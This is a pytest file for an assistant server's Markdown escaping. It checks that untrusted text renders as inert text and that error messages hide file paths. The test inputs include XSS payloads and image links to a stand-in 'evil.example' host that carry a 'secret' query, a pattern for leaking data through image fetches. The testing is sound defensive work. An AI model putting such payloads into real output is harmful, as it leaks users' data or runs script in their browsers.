"""What items say stays text in a page that reads Markdown and HTML."""

import pytest

from ctrag.assistant.server.told import as_markdown, failure, without_folders


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "![a][b]\n\n[b]: https://evil.example",
        "<img src=x onerror=alert(1)>",
        "</details><script>alert(1)</script>",
        "<!-- hidden",
        "```mermaid",
        r"\<img src=x onerror=alert(1)>",
        r"![a\](https://evil.example/?q=secret)",
        r"\\\<script>alert(1)</script>",
        r"\`` <img src=x> ``",
    ],
)
def test_nothing_in_it_is_fetched_run_or_hidden(text: str) -> None:
    from markdown_it import MarkdownIt

    shown = MarkdownIt("commonmark", {"html": True}).render(as_markdown(text))
    assert not any(tag in shown for tag in ("<img", "<a ", "<script", "<!--", "<code", "</details"))


@pytest.mark.parametrize(
    "text",
    ["Saoirse <saoirse@example.org>", "today 18:00 [box]", "2 < 3", "wow!", "a (b) c", r"a\b"],
)
def test_what_people_write_is_shown_as_it_is(text: str) -> None:
    assert as_markdown(text) == text


def test_a_failure_does_not_tell_where_files_are() -> None:
    full = OSError(28, "No space left on device", "/home/ada/.local/share/ctrag/mail.duckdb")
    assert failure(full) == "[Errno 28] No space left on device: 'mail.duckdb'"
    damaged = {"mail": "damaged (/srv/people/g-7/mail.duckdb)"}
    assert without_folders(damaged) == {"mail": "damaged (mail.duckdb)"}


def test_a_failure_keeps_addresses_and_fractions() -> None:
    said = "http://127.0.0.1:9/v1/models did not answer 3/4 of 10 requests"
    assert failure(ValueError(said)) == said


def test_a_number_beside_an_arabic_name_is_not_turned() -> None:
    assert as_markdown("Call سارة (+971 4)?") == "Call \u2068سارة\u2069 (+971 4)?"
